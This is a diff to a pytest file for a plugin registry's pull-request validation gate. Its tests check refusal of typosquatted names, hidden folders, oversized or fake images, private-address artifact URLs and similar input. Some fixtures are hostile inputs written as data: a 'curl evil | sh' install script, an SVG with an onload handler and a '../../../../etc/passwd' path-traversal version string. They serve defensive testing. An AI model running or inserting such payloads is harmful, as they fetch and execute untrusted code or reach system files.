@@ -8,6 +8,8 @@ repository, as CI does. Refused PRs must name the rule id and the file:line.
 
 from __future__ import annotations
 
+import hashlib
+import json
 import re
 import shutil
 import subprocess
@@ -383,7 +385,22 @@ def pr_retired_key_signs_a_new_version(repo: Path) -> Refused:
     return Refused("PX101", rel, at(rel, r"^signature:"))
 
 
+def pr_release_dated_in_the_future(repo: Path) -> Refused:
+    rel = add_version(repo, "auth-jwt", "1.3.0", None)
+    write(repo, rel, re.sub(r"(?m)^released: .*$", "released: 9999-12-31", read(repo, rel)))
+    sign_file(repo / rel, MARA)
+    return Refused("PX116", rel, at(rel, r"^released:"))
+
+
+def pr_name_with_a_reserved_word(repo: Path) -> Refused:
+    """`official` is reserved (registry.yaml): not as a name, nor as a word of one."""
+    rel = _copy_plugin(repo, "auth-jwt", "official-cookies")
+    return Refused("PX132", rel, at(rel, r"^name:"))
+
+
 REFUSED = [
+    pr_release_dated_in_the_future,
+    pr_name_with_a_reserved_word,
     pr_version_signed_by_a_non_owner,
     pr_valid_signature_but_author_not_an_owner,
     pr_signature_copied_from_another_version,
@@ -681,3 +698,255 @@ def test_a_published_name_is_never_given_to_someone_else(
     assert f"{rel}:{line}: PX115 name: observability-otel is not in the base, but the " in (
         result.stderr
     )
+
+
+# --- what the loader skips or cannot read must not slip through --------------------------
+
+
+def refused_at(result: Result, path: str, message: str) -> None:
+    """Assert the gate refused, with `message` on a line for `path`."""
+    assert "Traceback" not in result.output
+    assert result.exit_code == 1, result.output
+    assert any(
+        line.startswith(f"{path}: ") and message in line for line in result.stderr.splitlines()
+    ), result.output
+
+
+def test_a_hidden_folder_under_plugins_is_refused(repo: Path) -> None:
+    """The loader skipped dot-folders: merged, they would bypass every rule."""
+    shutil.copytree(repo / INDEX / "plugins" / "auth-basic", repo / INDEX / "plugins" / ".cache")
+    commit(repo)
+    refused_at(gate(), f"{INDEX}/plugins/.cache", "unexpected entry (a name starting with '.'")
+
+
+@pytest.mark.parametrize("kind", ["file", "link"])
+def test_a_stray_entry_directly_under_plugins_is_refused(repo: Path, kind: str) -> None:
+    """A file or link where a plugin folder belongs passed the gate, then broke every build."""
+    entry = repo / INDEX / "plugins" / "notes"
+    if kind == "file":
+        entry.write_text("remember\n", encoding="utf-8")
+    else:
+        entry.symlink_to("auth-jwt")
+    commit(repo)
+    refused_at(gate(), f"{INDEX}/plugins/notes", "unexpected entry")
+
+
+def _png(size: int = 64) -> bytes:
+    return b"\x89PNG\r\n\x1a\n" + bytes(size - 8)
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "message"),
+    [
+        ("install.sh", b"curl evil | sh\n", "unexpected file"),
+        ("logo.svg", b"<svg onload='x'/>", "unexpected file"),
+        (".DS_Store", b"\0\0\0\1Bud1", "unexpected file"),
+        ("big.png", _png(2 * 1024 * 1024), "image too large (expected at most 1048576 bytes"),
+        ("fake.png", b"<html>not an image</html>", "not a png image"),
+    ],
+    ids=["script", "svg", "hidden-file", "oversized-image", "not-an-image"],
+)
+def test_an_unreferenced_file_in_a_plugin_folder_is_refused(
+    repo: Path, name: str, data: bytes, message: str
+) -> None:
+    (repo / JWT / "docs").mkdir()
+    (repo / JWT / "docs" / name).write_bytes(data)
+    commit(repo)
+    refused_at(gate("--author", "mara-okafor"), f"{JWT}/docs/{name}", message)
+
+
+def test_readme_images_are_accepted(repo: Path) -> None:
+    (repo / JWT / "docs").mkdir()
+    (repo / JWT / "docs" / "screenshot.png").write_bytes(_png())
+    (repo / JWT / "docs" / "diagram.webp").write_bytes(b"RIFF\0\0\0\0WEBPVP8 ")
+    commit(repo)
+    result = gate("--author", "mara-okafor")
+    assert result.exit_code == 0, result.output
+
+
+def test_a_name_git_holds_but_cannot_check_out_is_refused(repo: Path) -> None:
+    """A 300-byte file name in the PR's commit, absent from the working tree: PX142, not 70."""
+    blob = subprocess.run(
+        ["git", "hash-object", "-w", "--stdin"],
+        cwd=repo,
+        input="x\n",
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.strip()
+    long_name = "b" * 300
+    path = f"{JWT}/versions/{long_name}.yaml"
+    git(repo, "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
+    git(repo, "commit", "-q", "-m", "a long name")
+    result = gate()
+    assert "Traceback" not in result.output
+    assert result.exit_code == 1, result.output
+    assert "PX142" in result.stderr and "a name of 305 bytes" in result.stderr
+
+
+def test_folders_nested_too_deep_are_refused(repo: Path) -> None:
+    deep = repo / JWT / "/".join(["d"] * 12)
+    deep.mkdir(parents=True)
+    (deep / "x.png").write_bytes(_png())
+    commit(repo)
+    result = gate("--author", "mara-okafor")
+    assert result.exit_code == 1, result.output
+    assert "PX142" in result.stderr and "12 levels of folders" in result.stderr
+    assert "folder nested too deeply" in result.stderr
+
+
+# --- names: how to get approval, reserved words ----------------------------------------
+
+
+def test_a_similar_name_says_the_exact_registry_line_to_add(repo: Path) -> None:
+    pr_typosquat_one_edit_away(repo)
+    commit(repo)
+    stderr = gate().stderr
+    assert "ask a maintainer to approve the name in a pull request to registry.yaml" in stderr
+    assert "adding, under `policy:`, `  approved_similar_names: [auth-jwtt]`" in stderr
+
+
+def test_the_approval_line_keeps_the_names_already_approved(repo: Path) -> None:
+    registry = f"{INDEX}/registry.yaml"
+    git(repo, "checkout", "-q", "main")
+    text = read(repo, registry).replace(
+        "policy:\n", "policy:\n  approved_similar_names: [auth-jws]\n", 1
+    )
+    write(repo, registry, text)
+    commit(repo, "approve auth-jws")
+    git(repo, "checkout", "-q", "-B", "pr", "main")
+    pr_typosquat_one_edit_away(repo)
+    commit(repo)
+    stderr = gate().stderr
+    assert "changing that line to `  approved_similar_names: [auth-jws, auth-jwtt]`" in stderr
+
+
+def test_a_reserved_word_in_a_name_is_approvable(repo: Path) -> None:
+    pr_name_with_a_reserved_word(repo)
+    commit(repo)
+    registry = f"{INDEX}/registry.yaml"
+    git(repo, "checkout", "-q", "main")
+    text = read(repo, registry).replace(
+        "policy:\n", "policy:\n  approved_similar_names: [official-cookies]\n", 1
+    )
+    write(repo, registry, text)
+    commit(repo, "approve official-cookies")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "rebase", "-q", "main")
+    result = gate("--author", "priya-rao")
+    assert result.exit_code == 0, result.output
+
+
+# --- GitHub handles ignore case ------------------------------------------------------------
+
+
+def test_the_pr_author_is_an_owner_whatever_the_case(repo: Path) -> None:
+    add_version(repo, "auth-jwt", "1.3.0", MARA)
+    commit(repo)
+    result = gate("--author", "Mara-Okafor")
+    assert result.exit_code == 0, result.output
+    assert gate("--author", "MARA-OKAFOR-X").exit_code == 1
+
+
+def test_owner_handles_that_differ_only_in_case_are_the_same_owner(repo: Path) -> None:
+    def twice(text: str) -> str:
+        again = f"  - github: Mara-Okafor\n    keys:\n      - {public_key_text(PRIYA)}\n"
+        return text.replace("readme: README.md\n", again + "readme: README.md\n")
+
+    rel = edit_manifest(repo, "auth-jwt", twice, revision=2, key=None)  # sign refuses it too
+    commit(repo)
+    result = gate("--author", "mara-okafor")
+    assert result.exit_code == 1, result.output
+    assert f"{rel}:" in result.stderr
+    assert "expected each entry once; got mara-okafor more than once" in result.stderr
+
+
+# --- yanks never need the artifact ----------------------------------------------------------
+
+
+def test_a_yank_never_downloads_the_artifact(repo: Path) -> None:
+    """The artifact URL of a merged version is dead; yanking it must still pass the gate."""
+    rel = add_version(repo, "auth-jwt", "1.3.0", None)
+    text = read(repo, rel)
+    write(repo, rel, re.sub(r"(?m)^  url: .*$", "  url: https://127.0.0.1:9/gone.tar.gz", text))
+    sign_file(repo / rel, MARA)
+    merge(repo)
+    yank(repo, rel, serial=1, key=MARA)
+    commit(repo)
+    result = CliRunner().invoke(
+        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
+    )
+    assert result.exit_code == 0, result.output
+    assert "download failed" not in result.output and "refusing" not in result.output
+
+
+# --- the published registry's documents are checked before use -------------------------
+
+
+def test_a_published_version_that_is_not_a_version_is_refused(repo: Path, tmp_path: Path) -> None:
+    live = tmp_path / "live"
+    document = live / "index/au/th/auth-jwt.json"
+    document.parent.mkdir(parents=True)
+    artifact = {"url": "x", "sha256": "0" * 64, "size": 1}
+    versions = [{"version": "../../../../etc/passwd", "artifact": artifact}]
+    document.write_text(json.dumps({"versions": versions}), encoding="utf-8")
+    add_version(repo, "auth-jwt", "1.3.0", MARA)
+    commit(repo)
+    result = gate("--author", "mara-okafor", "--published", str(live))
+    assert result.exit_code == 3, result.output
+    assert "cannot read the published document (not a version: '../../../../etc/passwd')" in (
+        result.stderr
+    )
+    assert "Traceback" not in result.output
+
+
+# --- artifact URLs must lead to public addresses --------------------------------------------
+
+
+def _remote_version(repo: Path, url: str, body: bytes) -> str:
+    rel = add_version(repo, "auth-jwt", "1.3.0", None)
+    text = read(repo, rel)
+    text = re.sub(r"(?m)^  url: .*$", f"  url: {url}", text)
+    text = re.sub(r"(?m)^  sha256: .*$", f"  sha256: {hashlib.sha256(body).hexdigest()}", text)
+    text = re.sub(r"(?m)^  size: .*$", f"  size: {len(body)}", text)
+    write(repo, rel, text)
+    sign_file(repo / rel, MARA)
+    return rel
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
+def test_an_artifact_on_a_private_address_is_refused_unless_the_registry_allows_it(
+    repo: Path, tmp_path: Path, serve_dir: Any, host: str
+) -> None:
+    body = b"an artifact served from this machine\n"
+    (tmp_path / "www").mkdir()
+    (tmp_path / "www" / "a.tar.gz").write_bytes(body)
+    url = serve_dir(tmp_path / "www").replace("127.0.0.1", host) + "a.tar.gz"
+    registry = f"{INDEX}/registry.yaml"
+    git(repo, "checkout", "-q", "main")
+    write(repo, registry, read(repo, registry).replace("[https]", "[https, http]"))
+    commit(repo, "allow http")
+    git(repo, "checkout", "-q", "-B", "pr", "main")
+    rel = _remote_version(repo, url, body)
+    commit(repo)
+    result = CliRunner().invoke(
+        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
+    )
+    assert result.exit_code == 1, result.output
+    assert f"{rel}:{line_of(repo, rel, r'^  url:')}: artifact.url: {url}: refusing to connect" in (
+        result.stderr
+    )
+    assert "a loopback address" in result.stderr
+    # The registry's own switch (for tests and a demo on this machine) allows it.
+    git(repo, "checkout", "-q", "main")
+    text = read(repo, registry).replace(
+        "policy:\n", "policy:\n  allow_private_addresses: true\n", 1
+    )
+    write(repo, registry, text)
+    commit(repo, "allow private addresses")
+    git(repo, "checkout", "-q", "pr")
+    git(repo, "rebase", "-q", "main")
+    allowed = CliRunner().invoke(
+        cli, ["validate", INDEX, "--base", "main", "--author", "mara-okafor"]
+    )
+    assert allowed.exit_code == 0, allowed.output
